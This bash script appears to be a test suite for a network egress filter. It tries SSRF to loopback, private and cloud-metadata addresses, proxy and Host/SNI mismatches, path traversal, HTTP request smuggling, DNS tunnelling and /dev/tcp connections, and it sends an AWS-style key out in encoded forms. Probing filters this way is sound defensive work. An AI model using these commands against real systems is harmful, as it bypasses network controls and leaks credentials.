#!/usr/bin/env bash
# Attacks by the network, inside: a line each, as those of attack.c. A case is told apart by a mark in what is sent; whether it has arrived, the
# runner sees outside. Sourced with SEEN (the file of the observer, outside) set; "twin" is what must work instead.
# shellcheck disable=SC2016,SC2034 # evaluated below
# shellcheck disable=SC2016,SC2034 # scripts for shells
set -u
# What another attack has planted in the home of this run is none of these.
export PYTHONNOUSERSITE=1
ok=https://api.example.com/ok
twin_get='curl -sS -m 5 $ok/m-twin | grep -q reached'
twin_post='curl -sS -m 5 -d hello=1 $ok/m-twin | grep -q reached'
filters=("$@")
chosen() {
	local f
	((${#filters[@]} == 0)) && return 0
	for f in "${filters[@]}"; do [[ $1 == "$f"* ]] && return 0; done
	return 1
}

# try ID FEATURE WHAT ATTACK [TWIN]: in the attack $m is the mark. Ten at a time: most of them wait.
running=0
try() {
	chosen "network/$1" || return 0
	((++running > 10)) && wait -n
	try_now "$@" &
}
try_now() {
	local id=network/$1 m=m-$1-x note twin=${5:-$twin_get} works=BROKEN twin_note=
	note=$(timeout 6 bash -c "ok=$ok m=$m; $4" 2>&1 | LC_ALL=C tr -c '[:print:]' ' ' | cut -c 1-120)
	twin_note=$(timeout 10 bash -c "ok=$ok; $twin" 2>&1 | LC_ALL=C tr -c '[:print:]' ' ' | cut -c 1-100; exit "${PIPESTATUS[0]}") && works=WORKS
	printf '%s\tnetwork\t%s\tLOOK\t%s\x01%s\x01%s\t%s\t-%s\t%s\n' "$id" "$2" "${note:--}" "$SEEN" "$m" "$works" "$twin_note" "$3"
}
tcp='python3 -c "
import socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 3)
s.sendall(b\"GET /\" + sys.argv[3].encode() + b\" HTTP/1.1\r\nHost: x\r\n\r\n\"); print(s.recv(100)[:40])"'
udp='python3 -c "
import socket, sys
f = socket.AF_INET6 if \":\" in sys.argv[1] else socket.AF_INET
s = socket.socket(f, socket.SOCK_DGRAM); s.settimeout(1); s.connect((sys.argv[1], int(sys.argv[2]))); s.send(sys.argv[3].encode()); print(s.recv(100))"'
raw_tls='python3 -c "
import socket, ssl, sys
c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
if len(sys.argv) > 4: c.set_alpn_protocols([sys.argv[4]])
s = c.wrap_socket(socket.create_connection((sys.argv[1], 443), 3), server_hostname=sys.argv[2])
s.sendall(sys.argv[3].encode().decode(\"unicode_escape\").encode(\"latin-1\")); print(s.recv(200)[:60])"'

# Addresses, in every form.
i=0
for a in 127.0.0.1 ::1 0.0.0.0 127.1 127.9.9.9 localhost ip6-localhost 2130706433 0x7f000001 0177.0.0.1 0x7f.0.0.1 ::ffff:127.0.0.1 ::127.0.0.1 64:ff9b::7f00:1 2002:7f00:1:: fe80::1 \
	10.9.8.7 192.168.77.7 169.254.169.254 2852039166 ::ffff:169.254.169.254 64:ff9b::a9fe:a9fe metadata.google.internal; do
	i=$((i + 1))
	try "tcp_$i" addresses "TCP to $a" "$tcp $a 8080 \$m; $tcp $a 80 \$m"
done
i=0
for u in http://127.0.0.1:8080 'http://[::1]:8080' http://0x7f000001:8080 http://2130706433:8080 http://0177.0.0.1:8080 'http://[::ffff:127.0.0.1]:8080' http://10.9.8.7 http://169.254.169.254 \
	'http://[::ffff:a9fe:a9fe]' https://10.9.8.7 http://localhost:8080 http://loop.example.com:8080 http://lan.example.com http://meta.example.com https://lan.example.com https://meta.example.com; do
	i=$((i + 1))
	try "url_$i" addresses "$u" "curl -sSk -m 3 $u/\$m"
	try "socks_$i" proxies "$u by SOCKS, the name resolved outside" "curl -sSk -m 3 -x socks5h://198.51.100.1:1080 $u/\$m"
	try "connect_$i" proxies "$u by CONNECT" "curl -sSk -m 3 -p -x http://198.51.100.1:3128 $u/\$m"
	try "proxy_$i" proxies "$u by an absolute target" "curl -sSk -m 3 -x http://198.51.100.1:3128 $u/\$m"
done
try host_other 'names' 'a host that no rule names' 'curl -sSk -m 3 https://other.example.com/ok/$m'
try host_suffix 'names' 'a name that ends as a permitted one' 'curl -sSk -m 3 https://evil-api.example.com/ok/$m; curl -sSk -m 3 https://x.api.example.com/ok/$m'
try host_prefix 'names' 'a name that begins as a permitted one' 'curl -sSk -m 3 https://api.example.com.evil.example.org/ok/$m'
try host_dot 'names' 'the permitted name at a port that no rule names' 'curl -sSk -m 3 https://api.example.com:8080/ok/$m; curl -sS -m 3 http://api.example.com:8080/ok/$m'
try plain 'names' 'without TLS' 'curl -sS -m 3 http://api.example.com/ok/$m'
try sni 'agreement' 'the permitted name in TLS, another as Host' 'curl -sSk -m 3 --http1.1 -H "Host: other.example.com" $ok/$m'
try authority 'agreement' 'the same as :authority' 'curl -sSk -m 3 --http2 -H "Host: other.example.com" $ok/$m'
try front 'agreement' 'another name in TLS, the permitted one as Host' 'curl -sSk -m 3 -H "Host: api.example.com" https://other.example.com/ok/$m'
try address 'agreement' 'the permitted name, at an address of our choice' 'curl -sSk -m 3 --connect-to ::10.9.8.7: $ok/$m; curl -sSk -m 3 --resolve api.example.com:443:169.254.169.254 $ok/$m'
try two_hosts 'agreement' 'two Host headers' "$raw_tls api.example.com api.example.com \"GET /ok/\$m HTTP/1.1\r\nHost: api.example.com\r\nHost: other.example.com\r\n\r\n\""
try no_host 'agreement' 'another name in TLS, no Host' "$raw_tls other.example.com other.example.com \"GET /ok/\$m HTTP/1.1\r\n\r\n\""
try no_sni 'agreement' 'no name in TLS' "python3 -c \"
import socket, ssl
c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
s = c.wrap_socket(socket.create_connection(('203.0.113.9', 443), 3)); s.sendall(b'GET /ok/\$m HTTP/1.1\r\nHost: other.example.com\r\n\r\n'); print(s.recv(90))\""
try absolute 'agreement' 'an absolute target inside of TLS' "$raw_tls api.example.com api.example.com \"GET https://other.example.com/ok/\$m HTTP/1.1\r\nHost: api.example.com\r\n\r\n\""
try connect_sni 'agreement' 'CONNECT to the permitted name, another in TLS' 'curl -sSk -m 3 -x http://198.51.100.1:3128 --connect-to other.example.com:443:api.example.com:443 https://other.example.com/ok/$m'
try connect_raw 'agreement' 'CONNECT, and no TLS inside' "python3 -c \"
import socket
s = socket.create_connection(('198.51.100.1', 3128), 3); s.sendall(b'CONNECT api.example.com:443 HTTP/1.1\r\nHost: api.example.com:443\r\n\r\n'); print(s.recv(99)[:40]); s.sendall(b'\$m\r\n'); print(s.recv(99)[:40])\""
try socks_nul 'proxies' 'a name with a NUL by SOCKS' "python3 -c \"
import socket
s = socket.create_connection(('198.51.100.1', 1080), 3); s.sendall(b'\x05\x01\x00'); s.recv(2); n = b'lan.example.com\x00.api.example.com'
s.sendall(b'\x05\x01\x00\x03' + bytes([len(n)]) + n + b'\x00\x50'); print(s.recv(20)); s.sendall(b'GET /\$m HTTP/1.1\r\nHost: x\r\n\r\n'); print(s.recv(90))\""
try socks_ip 'proxies' 'an address of the private network by SOCKS4' 'curl -sS -m 3 -x socks4://198.51.100.1:1080 http://10.9.8.7/$m'
try socks_udp 'proxies' 'datagrams by SOCKS' "python3 -c \"
import socket
s = socket.create_connection(('198.51.100.1', 1080), 3); s.sendall(b'\x05\x01\x00'); s.recv(2); s.sendall(b'\x05\x03\x00\x01\x00\x00\x00\x00\x00\x00'); print(s.recv(20))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b'\x00\x00\x00\x01\x0a\x09\x08\x07\x01\xbb\$m', ('198.51.100.1', 1080))\""
# Paths and methods: the rule permits GET and POST below /ok/.
for p in /admin /ok/../admin /ok/%2e%2e/admin /ok/..%2fadmin /ok/%2e%2e%2fadmin //admin /ok//../admin '/ok/;/../admin' '/ok/..;/admin' '/ok/%252e%252e/admin' '/ok/\\..\\admin' '/ok/%5c..%5cadmin' '/ok/%00/../admin' '/OK/../ok/../admin'; do
	i=$((i + 1))
	try "path_$i" paths "$p" "curl -sSk -m 3 --path-as-is 'https://api.example.com$p/'\$m; curl -sSk -m 3 --http1.1 --path-as-is 'https://api.example.com$p/'\$m"
done
for v in DELETE PUT TRACE CONNECT PATCH PROPFIND get; do
	try "method_$v" methods "the method $v" "curl -sSk -m 3 -X $v \$ok/\$m; curl -sSk -m 3 --http1.1 -X $v \$ok/\$m" "$twin_post"
done
try override 'methods' 'another method by a header' 'curl -sSk -m 3 -X POST -H "X-HTTP-Method-Override: DELETE" https://api.example.com/admin/$m' "$twin_post"
try size 'size' 'more bytes than permitted' 'head -c 3000000 /dev/zero | curl -sSk -m 5 --data-binary @- $ok/$m' "$twin_post"
try size_chunked 'size' 'the same, in chunks' 'head -c 3000000 /dev/zero | curl -sSk -m 5 --http1.1 -H "Transfer-Encoding: chunked" --data-binary @- $ok/$m' "$twin_post"
try websocket 'upgrade' 'WebSocket' 'curl -sSk -m 3 --http1.1 -H "Connection: Upgrade" -H "Upgrade: websocket" -H "Sec-WebSocket-Version: 13" -H "Sec-WebSocket-Key: eA==" $ok/$m'
try h2c 'upgrade' 'HTTP/2 without TLS' 'curl -sS -m 3 --http2 http://api.example.com/ok/$m; curl -sS -m 3 --http2-prior-knowledge http://api.example.com/ok/$m'
try h2c_tls 'upgrade' 'an upgrade to h2c inside of TLS' "$raw_tls api.example.com api.example.com \"GET /ok/a HTTP/1.1\r\nHost: api.example.com\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\$m\""
try smuggle_cl 'smuggling' 'two lengths' "$raw_tls api.example.com api.example.com \"POST /ok/a HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 5\r\nContent-Length: 60\r\n\r\nhelloDELETE /admin/\$m HTTP/1.1\r\nHost: api.example.com\r\n\r\n\""
try smuggle_te 'smuggling' 'a length and chunks' "$raw_tls api.example.com api.example.com \"POST /ok/a HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nDELETE /admin/\$m HTTP/1.1\r\nHost: api.example.com\r\n\r\n\""
try smuggle_te2 'smuggling' 'chunks, written in another way' "$raw_tls api.example.com api.example.com \"POST /ok/a HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 4\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\nDELETE /admin/\$m HTTP/1.1\r\nHost: api.example.com\r\n\r\n\""
try smuggle_line 'smuggling' 'a line end in a header' "$raw_tls api.example.com api.example.com \"GET /ok/a HTTP/1.1\r\nHost: api.example.com\r\nX: a\nDELETE /admin/\$m HTTP/1.1\r\n\r\n\""
try pipeline 'smuggling' 'a second request behind the first' "$raw_tls api.example.com api.example.com \"GET /ok/a HTTP/1.1\r\nHost: api.example.com\r\n\r\nDELETE /admin/\$m HTTP/1.1\r\nHost: api.example.com\r\n\r\n\""
# Datagrams, and what is no TCP.
for a in '9.9.9.9 443' '10.9.8.7 443' '169.254.169.254 123' '127.0.0.1 443' '10.9.8.7 53' '127.0.0.1 53'; do
	i=$((i + 1))
	try "udp_$i" datagrams "a datagram to $a" "$udp $a \$m"
done
try ping datagrams 'an echo request (ICMP)' 'python3 -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(1); s.sendto(b\"\x08\x00\x00\x00\x00\x01\x00\x01\" + b\"$m\", (\"10.9.8.7\", 0)); print(s.recv(100))"'
try quic datagrams 'HTTP/3' 'curl -sSk -m 3 --http3-only https://10.9.8.7/$m; echo | openssl s_client -quic -alpn h3 -connect 10.9.8.7:443 2>&1 | head -n 1'
try dns_tunnel DNS 'data in names that are looked up' 'getent hosts $m.tunnel.example.org; dig +time=1 +tries=1 $m.tunnel.example.org TXT @10.9.8.7; dig +time=1 +tries=1 $m.tunnel.example.org TXT @127.0.0.1' 'getent hosts api.example.com | grep -q .'
try dns_tcp DNS 'the same by TCP' 'dig +tcp +time=1 +tries=1 $m.tunnel.example.org @10.9.8.7' 'getent hosts api.example.com | grep -q .'
try dns_kinds DNS 'other kinds of questions' 'for k in TXT NULL MX SRV CNAME ANY HTTPS; do dig +time=1 +tries=1 $m.tunnel.example.org $k; done' 'getent hosts api.example.com | grep -q .'
try doh DNS 'names by HTTPS' 'curl -sSk -m 3 "https://dns.google/resolve?name=$m.example.org"; curl -sSk -m 3 "https://10.9.8.7/dns-query?dns=$m"'
try dot DNS 'names by TLS' 'timeout 3 openssl s_client -connect 10.9.8.7:853 -servername $m </dev/null 2>&1 | head -n 2'
try proxies_unset proxies 'no proxy asked for' 'env -u http_proxy -u https_proxy -u HTTPS_PROXY -u HTTP_PROXY -u ALL_PROXY curl -sSk -m 3 --noproxy "*" https://10.9.8.7/$m'
try git_push names 'git, over its own protocol' 'timeout 4 git -c core.askPass=true ls-remote git://10.9.8.7:8080/$m'
try ssh names 'ssh' 'timeout 4 bash -c "exec 3<>/dev/tcp/10.9.8.7/8080; echo SSH-2.0-$m >&3; head -c 20 <&3"'
wait
# Secrets to a permitted host. The key is one that everybody knows for a secret.
key=AKIA
key+=QYLPMN5HHHFPZAM2 # in two parts, so that this file holds none
secret_case() { # ID WHAT TRANSFORM: what arrives must not hold the transformed key
	local id=network/dlp_$1 text works=BROKEN
	chosen "$id" || return 0
	text=$(printf 'aws_access_key_id = %s' "$key" | eval "$3" | base64 -w 0)
	base64 -d <<<"$text" | curl -sS -m 5 --data-binary @- -H 'Content-Type: text/plain' "${@:4}" $ok/m-"$1"-x >/dev/null 2>&1
	eval "$twin_post" >/dev/null 2>&1 && works=WORKS
	printf '%s\tnetwork\tDLP\tLOOK\t-\x01%s\x01%s\t%s\t-\t%s\n' "$id" "$SEEN" "$(base64 -d <<<"$text" | head -c 60 | tr -d '\0\1\t' | head -n 1)" "$works" "$2"
}
secret_case plain 'a key in what is sent' cat
secret_case base64 'the same, base64' 'base64 -w 0'
secret_case hex 'the same, hexadecimal' 'od -An -v -tx1 | tr -d " \n"'
secret_case reversed 'the same, reversed' rev
secret_case url 'the same, with percent signs' "od -An -v -tx1 | tr -d '\n' | tr ' ' '%'"
secret_case json 'the same in JSON' "jq -Rc '{messages: [{role: \"user\", content: .}]}'"
secret_case json_escaped 'the same, escaped in JSON' "sed 's/A/\\\\u0041/g; s/.*/{\"x\":\"&\"}/'"
secret_case base64_twice 'the same, base64 twice' 'base64 -w 0 | base64 -w 0'
# Here it is the request itself that must not arrive: its path holds the mark.
whole_case() { # ID WHAT COMMAND: with $key and $to
	local id=network/dlp_$1 m=m-$1-x works=BROKEN to
	chosen "$id" || return 0
	to=$ok/$m
	eval "$3" >/dev/null 2>&1
	eval "$twin_post" >/dev/null 2>&1 && works=WORKS
	printf '%s\tnetwork\tDLP\tLOOK\t-\x01%s\x01%s\t%s\t-\t%s\n' "$id" "$SEEN" "$m" "$works" "$2"
}
whole_case gzip 'a key, packed' 'echo "aws_access_key_id = $key" | gzip | curl -sS -m 5 --data-binary @- -H "Content-Encoding: gzip" "$to"'
whole_case gzip_base64 'a key, packed, base64' 'echo "aws_access_key_id = $key" | gzip | base64 -w 0 | curl -sS -m 5 --data-binary @- "$to"'
whole_case chunked 'a key, in chunks of four bytes' 'python3 - "$key" "$to" <<"END"
import http.client, sys, urllib.parse
u = urllib.parse.urlsplit(sys.argv[2])
c = http.client.HTTPSConnection(u.hostname, timeout=5)
c.request("POST", u.path, iter([("aws_access_key_id = " + sys.argv[1])[i:i + 4].encode() for i in range(0, 40, 4)]), encode_chunked=True, headers={"Transfer-Encoding": "chunked"})
c.getresponse().read()
END'
whole_case multipart 'a key in a file that is uploaded' 'curl -sS -m 5 -F "f=aws_access_key_id = $key" "$to"'
whole_case query 'a key in the query' 'curl -sS -m 5 "$to?k=$key"'
whole_case header 'a key in a header' 'curl -sS -m 5 -H "X-Note: $key" "$to"'
whole_case path 'a key in the path' 'curl -sS -m 5 "$to/$key"'
whole_case basic 'a key as a password' 'curl -sS -m 5 -u "x:$key" "$to"'
whole_case cookie 'a key as a cookie' 'curl -sS -m 5 -b "a=$key" "$to"'
